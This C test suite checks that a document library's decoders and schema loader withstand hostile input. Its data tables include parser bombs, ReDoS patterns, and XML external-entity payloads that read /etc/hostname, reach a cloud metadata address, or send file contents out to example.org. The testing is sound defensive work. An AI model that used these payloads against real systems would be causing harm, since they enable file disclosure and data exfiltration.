/*
 * Hostile input: the bombs that parsers are known for, against every decoder. Each is
 * refused with a place, or read, within a time and a memory that follow from its size.
 */
#include <stdio.h>
#include <string.h>
#include <time.h>

#include <libxml/parser.h>
#include <libxml/xmlIO.h>

#include "tests/fuzz/decoders.h"
#include "tests/unit/documents.h"
#include "tests/unit/map_fixture.h"
#include "transform/schema.h"

#define SECONDS	     10 /* of processor time, with sanitizers, for 8 MiB */
#define COUNT(table) ((int) (sizeof(table) / sizeof((table)[0])))

static double
seconds_since(clock_t start)
{
	return (double) (clock() - start) / CLOCKS_PER_SEC;
}

/* head + text + tail of a decoder; free it. */
static char *
within(const ph_test_decoder *decoder, const char *text, size_t *length)
{
	ph_buffer out;
	ph_buffer_init(&out, 0);
	ph_buffer_text(&out, decoder->head);
	ph_buffer_text(&out, text);
	ph_buffer_text(&out, decoder->tail);
	*length = out.length;
	char *copy = malloc(out.length + 1);
	ck_assert_ptr_nonnull(copy);
	memcpy(copy, ph_buffer_cstr(&out), out.length + 1);
	ph_buffer_fini(&out);
	return copy;
}

/* Line and column behind a decoder's head and `more` bytes. */
static void
place_behind(const ph_test_decoder *decoder, size_t more, char place[32])
{
	unsigned line = 1;
	size_t column = 1;
	for (const char *at = decoder->head; *at != '\0'; at++) {
		bool ends = *at == '\n';
		line += ends ? 1 : 0;
		column = ends ? 1 : column + 1;
	}
	snprintf(place, 32, "%u:%zu", line, column + more);
}

static const char *const not_utf8[] = {
    "\xC0\xAF",				    /* overlong '/' */
    "\xC1\xBF",				    /* overlong */
    "\xE0\x80\xAF",			    /* overlong '/' in three */
    "\xF0\x80\x80\xAF",			    /* in four */
    "\xF8\x88\x80\x80\x80", "\xED\xA0\x80", /* half of a pair */
    "\xED\xBF\xBF", "\xF4\x90\x80\x80",	    /* behind the last */
    "\x80", "\xFE", "\xFF", "\xE2\x82",	    /* cut */
};

START_TEST(what_is_no_utf8_is_refused_at_its_place)
{
	const ph_test_decoder *decoder = &ph_test_decoders[_i];
	char place[32];
	for (int i = 0; i < COUNT(not_utf8); i++) {
		char text[32];
		size_t length = 0;
		snprintf(text, sizeof text, "Zed%s", not_utf8[i]);
		char *bytes = within(decoder, text, &length);
		/* a form's are seen when the % sequences are decoded */
		bool form = strcmp(decoder->name, "form") == 0;
		place_behind(decoder, form ? 0 : 3, place);
		expect_refusal(
		    decoder->decode, bytes, length, decoder->not_utf8, place);
		free(bytes);
	}
}
END_TEST

START_TEST(an_ordinary_text_is_taken)
{
	const ph_test_decoder *decoder = &ph_test_decoders[_i];
	size_t length = 0;
	char *bytes = within(decoder, "Zed\xC3\xA9", &length);
	ph_document *document = new_document();
	ph_error err = {0};
	ph_status status = decode_exact(decoder->decode, document, bytes, length, &err);
	ck_assert_msg(
	    status == PH_OK, "%s: %s: %s", decoder->name, err.where, err.text);
	ph_document_destroy(&document);
	free(bytes);
}
END_TEST

START_TEST(zero_bytes_and_wide_texts_are_refused)
{
	const ph_test_decoder *decoder = &ph_test_decoders[_i];
	static const char *const wide[] = {"\xFF\xFE", "\xFE\xFF"};
	char place[32];
	size_t length = 0;
	char *bytes = within(decoder, "Zed?", &length);
	place_behind(decoder, 3, place);
	bytes[strlen(decoder->head) + 3] = '\0';
	expect_refusal(decoder->decode, bytes, length, "PH", place);
	/* what stands before the first part may be anything */
	bool preamble = strcmp(decoder->name, "multipart") == 0;
	for (int i = 0; i < COUNT(wide) && !preamble; i++) {
		memcpy(bytes, wide[i], 2);
		expect_refusal(decoder->decode, bytes, length, "PH", "1:1");
	}
	free(bytes);
}
END_TEST

START_TEST(too_many_bytes_are_refused_unread)
{
	const ph_test_decoder *decoder = &ph_test_decoders[_i];
	size_t length = 0;
	char *bytes =
	    repeat(decoder->head, "x", decoder->most + 1, decoder->tail, &length);
	expect_refusal(decoder->decode, bytes, length, decoder->too_large, "1:1");
	free(bytes);
}
END_TEST

/* A name, a number or a text of nearly all the bytes there may be. */
START_TEST(one_huge_value_costs_in_proportion)
{
	const ph_test_decoder *decoder = &ph_test_decoders[_i];
	static const char *const bodies[] = {"9", "\xC3\xA9"};
	for (int i = 0; i < COUNT(bodies); i++) {
		size_t length = 0;
		char *bytes = repeat(decoder->head, bodies[i], decoder->most - 64,
		    decoder->tail, &length);
		clock_t start = clock();
		survive(decoder->decode, bytes, length);
		ck_assert_msg(seconds_since(start) < SECONDS, "%s of %s", decoder->name,
		    bodies[i]);
		free(bytes);
	}
}
END_TEST

START_TEST(a_small_arena_is_an_answer)
{
	const ph_test_decoder *decoder = &ph_test_decoders[_i];
	size_t length = 0;
	char *bytes = within(decoder, "Zed", &length);
	for (size_t limit = 16; limit < 8192; limit += 48) {
		ph_document *d = NULL;
		ph_error err = {0};
		if (ph_document_new("t", limit, &d, NULL) != PH_OK)
			continue;
		ph_status status =
		    decode_exact(decoder->decode, d, bytes, length, &err);
		ck_assert_msg(status == PH_OK || status == PH_ERR_TOO_LARGE ||
				  status == PH_ERR_NOMEM,
		    "%s: %s", decoder->name, err.text);
		ck_assert_uint_le(ph_arena_used(ph_document_arena(d)), limit);
		ph_document_destroy(&d);
	}
	free(bytes);
}
END_TEST

/* One kind of trouble, repeated. A code of NULL: it may be read. */
static const struct {
	const char *decoder;
	const char *head;
	const char *body;
	size_t size;
	const char *tail;
	const char *code;
} bombs[] = {
    /* nesting */
    {"xml", "", "<a>", 1000000, "", "PH3025"},
    {"xml", "", "<a b='c'><d/>", 1000000, "", "PH3025"},
    {"soap", "", "<a>", 1000000, "", "PH3025"},
    {"json", "", "[", 1000000, "", "PH3015"},
    {"json", "", "{\"a\":", 1000000, "", "PH3015"},
    {"json", "[", "[[]],", 1000000, "", "PH3005"},
    {"yaml", "", "[", 1000000, "", "PH1003"},
    {"yaml", "", "{a: ", 1000000, "", "PH1003"},
    {"yaml", "", "- ", 1000000, "", "PH10"},
    /* names and attributes */
    {"xml", "<", "a", 1000000, "/>", "PH30"},
    {"xml", "<a ", "b", 1000000, "=''/>", "PH30"},
    {"xml", "<a b='", "c", 1000000, "'/>", NULL},
    {"xml", "<a xmlns:p='", "u", 1000000, "'/>", NULL},
    {"json", "{\"", "a", 1000000, "\":1}", NULL},
    {"form", "", "a", 1000000, "=1", NULL},
    {"form", "", "a&", 1000000, "", NULL},
    {"csv", "", "a", 1000000, "\n1\n", NULL},
    {"csv", "", "a,", 1000000, "\n", "PH11"},
    {"records-csv", "", ",", 1000000, "\n", "PH3107"},
    {"yaml", "", "a", 1000000, ": 1\n", NULL},
    {"yaml", "? ", "a", 1000000, "\n: 1\n", NULL},
    /* numbers are texts */
    {"json", "[-", "1", 1000000, "]", NULL},
    {"json", "[1e", "9", 1000000, "]", NULL},
    {"json", "[0.", "0", 1000000, "1]", NULL},
    /* repeated names: read in a form, refused where they mean nothing */
    {"json", "{\"a\":0", ",\"a\":0", 1000000, "}", "PH3016"},
    {"yaml", "a: 1\n", "a: 1\n", 1000000, "", "PH1015"},
    {"form", "a=1", "&a=1", 1000000, "", NULL},
    {"csv", "a", ",a", 400, "\n", "PH1122"},
    {"records-csv", "a", ",a", 400, "\n", "PH3107"},
    /* what stands for more than itself */
    {"xml", "<a>", "&#x10FFFD;", 1000000, "</a>", NULL},
    {"xml", "<a b='", "&amp;", 1000000, "'/>", NULL},
    {"xml", "<a>", "&lol;", 1000000, "</a>", "PH3027"},
    {"xml", "<a>", "<![CDATA[]]>", 1000000, "</a>", NULL},
    {"xml", "", "<!---->", 1000000, "<a/>", NULL},
    {"json", "\"", "\\ud83d\\ude00", 1000000, "\"", NULL},
    {"form", "a=", "%25", 1000000, "", NULL},
    {"yaml", "a: &a [x]\n", "b: [*a, *a, *a]\n", 1000000, "", "PH1010"},
    {"yaml", "a: &a [&b [&c [x]]]\n", "- *a\n", 1000000, "", "PH1010"},
    {"yaml", "", "a: !x y\n", 1000000, "", "PH1011"},
    {"yaml", "<<: ", "[*a]", 1000, "\n", "PH1010"},
    {"hl7", "MSH|^~\\&\rNTE|", "\\X41\\", 1000000, "\r", NULL},
    {"hl7", "MSH|^~\\&\rNTE|", "\\.br\\", 1000000, "\r", NULL},
    {"hl7", "MSH|^~\\&\rNTE|\\X", "41", 1000000, "\\\r", NULL},
    {"hl7", "MSH|^~\\&\rNTE|\\X", "4", 1000000, "\r", "PH31"},
    /* separators and ends */
    {"hl7", "MSH|^~\\&", "|", 1000000, "\r", "PH3106"},
    {"hl7", "MSH|^~\\&\rPID|", "~", 1000000, "\r", NULL},
    {"hl7", "MSH|^~\\&\rPID|x", "^", 1000000, "y\r", "PH3106"},
    {"hl7", "MSH|^~\\&\rPID|x", "&", 1000000, "y\r", "PH3106"},
    {"hl7", "MSH|^~\\&", "\r", 1000000, "", NULL},
    {"hl7", "MSH|^~\\&\r", "A", 1000000, "", "PH31"},
    {"csv", "a\n", "\"", 1000000, "", NULL},
    {"csv", "a\n\"", "\n", 1000000, "", "PH1110"},
    {"csv", "a\n", "\n", 1000000, "", NULL},
    {"records-csv", "a\n", "\"", 1000000, "", NULL},
    {"records-csv", "a\n\"", ",\n", 1000000, "", "PH3102"},
    {"records-csv", "a\n1", ",", 1000000, "\n", "PH3109"},
    {"record-csv", "10,a,b\n", "11,,\n", 1000000, "", "PH"},
    {"record-csv", "10,a,b\n", "12,,\n", 1000000, "99,0,1\n", "PH3111"},
    {"record-csv", "10,a,b\n99,0,", "9", 1000000, "\n", "PH3113"},
    {"fixed", "", " ", 1000000, "\n", NULL},
    {"fixed", "", "x", 1000000, "\n", "PH31"},
    {"fixed", "", "\n", 1000000, "", NULL},
    {"fixed", "", "\xCC\x81", 1000000, "\n", "PH31"},
    {"form", "", "=", 1000000, "", NULL},
    {"form", "", "%", 1000000, "", "PH30"},
    {"json", "", "\"", 1000000, "", "PH30"},
    {"json", "", " ", 1000000, "", "PH3010"},
    {"yaml", "", "\n", 1000000, "", NULL},
    {"yaml", "a: \"", "\\x41", 1000000, "\"\n", NULL},
    {"yaml", "", "---\n", 1000000, "", "PH1017"},
    {"yaml", "", "%A b\n", 1000000, "", "PH10"},
};

START_TEST(bombs_do_not_go_off)
{
	const ph_test_decoder *decoder = ph_test_decoder_named(bombs[_i].decoder);
	ck_assert_ptr_nonnull(decoder);
	size_t length = 0;
	char *bytes = repeat(
	    bombs[_i].head, bombs[_i].body, bombs[_i].size, bombs[_i].tail, &length);
	clock_t start = clock();
	if (bombs[_i].code != NULL)
		expect_refusal(decoder->decode, bytes, length, bombs[_i].code, NULL);
	if (strcmp(decoder->name, "yaml") != 0)
		survive(decoder->decode, bytes, length);
	ck_assert_msg(seconds_since(start) < 3 * SECONDS, "%s: %s took %.1f s",
	    decoder->name, bombs[_i].body, seconds_since(start));
	free(bytes);
}
END_TEST

/* XML that asks for something else to be read, and the laughs. */
#define DTD(subset) "<!DOCTYPE a [" subset "]><a>&x;</a>"
static const struct {
	const char *text;
	const char *code; /* NULL: read, as plain elements, and nothing is opened */
} external[] = {
    {"<!DOCTYPE a SYSTEM \"file:///etc/hostname\"><a/>", "PH3021"},
    {"<!DOCTYPE a SYSTEM \"http://example.org/a.dtd\"><a/>", "PH3021"},
    {"<!DOCTYPE a PUBLIC \"-//X//Y\" \"ftp://example.org/a.dtd\"><a/>", "PH3021"},
    {DTD("<!ENTITY x SYSTEM \"file:///etc/hostname\">"), "PH3021"},
    {DTD("<!ENTITY x SYSTEM \"/etc/hostname\">"), "PH3021"},
    {DTD("<!ENTITY x SYSTEM \"http://169.254.169.254/latest/\">"), "PH3021"},
    {DTD("<!ENTITY x PUBLIC \"p\" \"https://example.org/x\">"), "PH3021"},
    {DTD("<!ENTITY % p SYSTEM \"http://example.org/p.dtd\">%p;"), "PH3021"},
    {DTD("<!ENTITY % f SYSTEM \"file:///etc/hostname\"><!ENTITY % e \"<!ENTITY &#37; "
	 "s SYSTEM 'http://example.org/?%f;'>\">%e;%s;"),
	"PH3021"},
    {DTD("<!NOTATION n SYSTEM \"file:///etc/hostname\"><!ENTITY x SYSTEM \"f\" NDATA "
	 "n>"),
	"PH3021"},
    {DTD("<!ENTITY y \"ha\"><!ENTITY z \"&y;&y;&y;&y;\"><!ENTITY x \"&z;&z;&z;&z;\">"),
	"PH3021"},
    {DTD("<!ENTITY x \"&x;\">"), "PH3021"},
    {"<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
     "href=\"file:///etc/hostname\" parse=\"text\"/></a>",
	NULL},
    {"<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
     "href=\"http://example.org/\"><xi:fallback/></xi:include></a>",
	NULL},
    {"<a xmlns:i=\"http://www.w3.org/2001/XMLSchema-instance\" "
     "i:schemaLocation=\"urn:a http://example.org/a.xsd\" "
     "i:noNamespaceSchemaLocation=\"/etc/hostname\"/>",
	NULL},
    {"<?xml-stylesheet type=\"text/xsl\" href=\"file:///etc/hostname\"?><a/>", NULL},
    {"<?oasis-xml-catalog catalog=\"http://example.org/c\"?><a/>", NULL},
    {"<a xml:base=\"file:///etc/\"><b href=\"hostname\"/></a>", NULL},
};

static int opened;

static int
note_open(const char *name)
{
	(void) name;
	opened++;
	return 0;
}

static xmlParserInputPtr
note_entity(const char *url, const char *id, xmlParserCtxtPtr context)
{
	(void) url;
	(void) id;
	(void) context;
	opened++;
	return NULL;
}

START_TEST(nothing_outside_is_read)
{
	static const char *const names[] = {"xml", "soap"};
	ck_assert_int_ge(xmlRegisterInputCallbacks(note_open, NULL, NULL, NULL), 0);
	xmlSetExternalEntityLoader(note_entity);
	for (int i = 0; i < COUNT(names); i++) {
		const ph_test_decoder *decoder = ph_test_decoder_named(names[i]);
		const char *text = external[_i].text;
		if (external[_i].code != NULL)
			expect_refusal(decoder->decode, text, strlen(text),
			    external[_i].code, NULL);
		else
			survive(decoder->decode, text, strlen(text));
		if (external[_i].code == NULL || i > 0)
			continue;
		/* inside of an element, and behind a declaration */
		char inner[1024];
		snprintf(inner, sizeof inner, "<b>%s</b>", text);
		expect_refusal(
		    decoder->decode, inner, strlen(inner), external[_i].code, "1:4");
	}
	ck_assert_int_eq(opened, 0);
}
END_TEST

/* Schemas that ask for much work; `result`: what the check says, or what loading says
 * if `code` is given. */
static const struct {
	const char *schema;
	const char *head;
	const char *body;
	size_t size;
	const char *tail;
	ph_status result;
} work[] = {
    {"{\"pattern\":\"^(a+)+$\"}", "\"", "a", 100000, "!\"", PH_ERR_INVALID},
    {"{\"pattern\":\"(x+x+)+y\"}", "\"", "x", 100000, "\"", PH_ERR_INVALID},
    {"{\"pattern\":\"(.*)*(.*)*(.*)*!\"}", "\"", "x", 100000, "\"", PH_ERR_INVALID},
    {"{\"multipleOf\":1e-300}", "1e", "9", 9, "", PH_OK},
    {"{\"multipleOf\":0.01}", "1e", "9", 1000, "", PH_OK},
    {"{\"multipleOf\":7}", "1e", "9", 9, "", PH_ERR_INVALID},
    {"{\"maximum\":5}", "1e", "9", 1000000, "", PH_ERR_INVALID},
    {"{\"maximum\":5}", "", "9", 1000000, "", PH_ERR_INVALID},
    {"{\"minimum\":5}", "0.", "0", 1000000, "1", PH_ERR_INVALID},
    {"{\"type\":\"integer\"}", "1e-", "9", 1000000, "", PH_ERR_INVALID},
};

START_TEST(schemas_bound_their_work)
{
	ph_schema *schema = NULL;
	ph_error err = {0};
	ph_status status = ph_schema_parse_with("t", work[_i].schema,
	    strlen(work[_i].schema), NULL, PH_SCHEMA_STANDARD, &schema, &err);
	ck_assert_msg(status == PH_OK, "%s: %s", err.where, err.text);
	size_t length = 0;
	char *bytes =
	    repeat(work[_i].head, work[_i].body, work[_i].size, work[_i].tail, &length);
	ph_document *d = new_document();
	ph_violation violation = {0};
	clock_t start = clock();
	status = ph_test_decoder_named("json")->decode(d, bytes, length, &err);
	ck_assert_msg(status == PH_OK, "%s: %s", err.where, err.text);
	status = ph_schema_check(schema, d, ph_document_root(d), 0, &violation);
	ck_assert_msg(status == work[_i].result, "%s: %d %s", work[_i].schema,
	    (int) status, violation.text);
	ck_assert_msg(seconds_since(start) < SECONDS, "%s took %.1f s", work[_i].schema,
	    seconds_since(start));
	ph_document_destroy(&d);
	ph_schema_destroy(&schema);
	free(bytes);
}
END_TEST

/* Lists of items that all differ, and the last of which does not. */
START_TEST(different_items_are_compared_in_proportion)
{
	static const char text[] = "{\"uniqueItems\":true}";
	static const char *const parts[][2] = {{"\"item ", " with some text\""},
	    {" ", ".00000000000000000000"}, {"{\"an object\":[", ",0,1]}"}};
	const char *before = parts[_i][0];
	const char *after = parts[_i][1];
	ph_schema *schema = NULL;
	ph_status status = ph_schema_parse_with(
	    "t", text, strlen(text), NULL, PH_SCHEMA_STANDARD, &schema, NULL);
	ck_assert_int_eq(status, PH_OK);
	ph_buffer out;
	ph_buffer_init(&out, 0);
	ph_buffer_text(&out, "[");
	for (int i = 0; i < 20000; i++)
		ph_buffer_printf(&out, "%s%d%s,", before, i, after);
	ph_buffer_printf(&out, "%s7%s]", before, after);
	ph_document *d = new_document();
	ph_violation violation = {0};
	clock_t start = clock();
	status = ph_test_decoder_named("json")->decode(d, out.data, out.length, NULL);
	ck_assert_int_eq(status, PH_OK);
	status = ph_schema_check(schema, d, ph_document_root(d), 0, &violation);
	ck_assert_int_eq(status, PH_ERR_INVALID);
	ck_assert_double_lt(seconds_since(start), SECONDS);
	ph_document_destroy(&d);
	ph_schema_destroy(&schema);
	ph_buffer_fini(&out);
}
END_TEST

static const struct {
	const char *head;
	const char *body;
	size_t size;
	const char *tail;
} loads[] = {
    {"", "{\"not\":", 1000000, ""},
    {"{\"$ref\":\"#", "/a", 1000000, "\"}"},
    {"{\"pattern\":\"", "(", 1000000, "\"}"},
    {"{\"pattern\":\"", "(a|b)*", 1000000, "\"}"},
    {"{\"pattern\":\"a{", "9", 1000000, "}\"}"},
    {"{\"minLength\":", "9", 1000000, "}"},
    {"{\"enum\":[0", ",0", 1000000, "]}"},
    {"{\"required\":[\"a\"", ",\"a\"", 1000000, "]}"},
    {"{\"allOf\":[{}", ",{\"$ref\":\"#\"}", 1000000, "]}"},
};

START_TEST(schemas_are_loaded_in_proportion)
{
	size_t length = 0;
	char *bytes = repeat(
	    loads[_i].head, loads[_i].body, loads[_i].size, loads[_i].tail, &length);
	ph_schema *schema = NULL;
	ph_error err = {0};
	clock_t start = clock();
	ph_status status = ph_schema_parse("t", bytes, length, &schema, &err);
	ck_assert(status == PH_OK || strncmp(err.text, "PH", 2) == 0);
	ck_assert_msg(seconds_since(start) < SECONDS, "%s took %.1f s", loads[_i].body,
	    seconds_since(start));
	ph_schema_destroy(&schema);
	free(bytes);
}
END_TEST

/* Maps: a file of people's, and yet it ends. */
static const struct {
	const char *head;
	const char *body;
	size_t size;
	const char *tail;
} maps[] = {
    {"map: m\nlinks:\n", "  - a <-> b\n", 100000, ""},
    {"map: m\ncanonical: thing@1\nvendor: {format: json}\nlinks:\n  - a <- x | "
     "match(\"",
	"(", 100000, "\")\n"},
    {"map: m\ncanonical: thing@1\nvendor: {format: json}\nlinks:\n  - ", "(", 100000,
	" <- x\n"},
    {"map: m\ncanonical: thing@1\nvendor: {format: json}\nlinks:\n  - a <- ", "x/",
	100000, "y\n"},
    {"map: m\ncanonical: thing@1\nvendor: {format: json}\nlinks:\n  - a <- x | ",
	"trim | ", 100000, "trim\n"},
    {"map: m\ncanonical: thing@1\nvendor: {format: json}\nlinks:\n  - a <- x | when(",
	"not ", 100000, "x)\n"},
    {"map: m\ncanonical: thing@1\nvendor: {format: json}\nlinks:\n  - a <- x | when(",
	"(", 100000, "x)\n"},
    {"map: m\ncanonical: thing@1\nvendor: {format: json}\nlinks:\n  - a <- x | fit(",
	"9", 100000, ")\n"},
    {"map: m\nlinks: &a\n", "  - *a\n", 100000, ""},
};

START_TEST(maps_are_loaded_in_proportion)
{
	map_fixture fixture;
	size_t length = 0;
	char *bytes =
	    repeat(maps[_i].head, maps[_i].body, maps[_i].size, maps[_i].tail, &length);
	map_fixture_init(&fixture);
	clock_t start = clock();
	ph_map *map = map_fixture_map(&fixture, bytes);
	ck_assert(map != NULL || fixture.err.text[0] != '\0');
	ck_assert(map != NULL || strstr(fixture.err.where, "m.yaml") != NULL);
	ck_assert_msg(seconds_since(start) < SECONDS, "%s took %.1f s", maps[_i].body,
	    seconds_since(start));
	ph_map_destroy(&map);
	map_fixture_fini(&fixture);
	free(bytes);
}
END_TEST

static int
decoders_count(void)
{
	int count = 0;
	while (ph_test_decoders[count].name != NULL)
		count++;
	return count;
}

static Suite *
hostile_suite(void)
{
	Suite *suite = suite_create("hostile");
	int decoders = decoders_count();
	TCase *all = tcase_create("every decoder");
	tcase_add_checked_fixture(all, NULL, ph_test_decoders_forget);
	tcase_add_loop_test(all, an_ordinary_text_is_taken, 0, decoders);
	tcase_add_loop_test(all, what_is_no_utf8_is_refused_at_its_place, 0, decoders);
	tcase_add_loop_test(all, zero_bytes_and_wide_texts_are_refused, 0, decoders);
	tcase_add_loop_test(all, too_many_bytes_are_refused_unread, 0, decoders);
	tcase_add_loop_test(all, one_huge_value_costs_in_proportion, 0, decoders);
	tcase_add_loop_test(all, a_small_arena_is_an_answer, 0, decoders);
	suite_add_tcase(suite, all);
	TCase *each = tcase_create("bombs");
	tcase_add_checked_fixture(each, NULL, ph_test_decoders_forget);
	tcase_add_loop_test(each, bombs_do_not_go_off, 0, COUNT(bombs));
	tcase_add_loop_test(each, nothing_outside_is_read, 0, COUNT(external));
	tcase_add_loop_test(each, schemas_bound_their_work, 0, COUNT(work));
	tcase_add_loop_test(each, different_items_are_compared_in_proportion, 0, 3);
	tcase_add_loop_test(each, schemas_are_loaded_in_proportion, 0, COUNT(loads));
	tcase_add_loop_test(each, maps_are_loaded_in_proportion, 0, COUNT(maps));
	suite_add_tcase(suite, each);
	return suite;
}

int
main(void)
{
	return ph_check_main(hostile_suite());
}
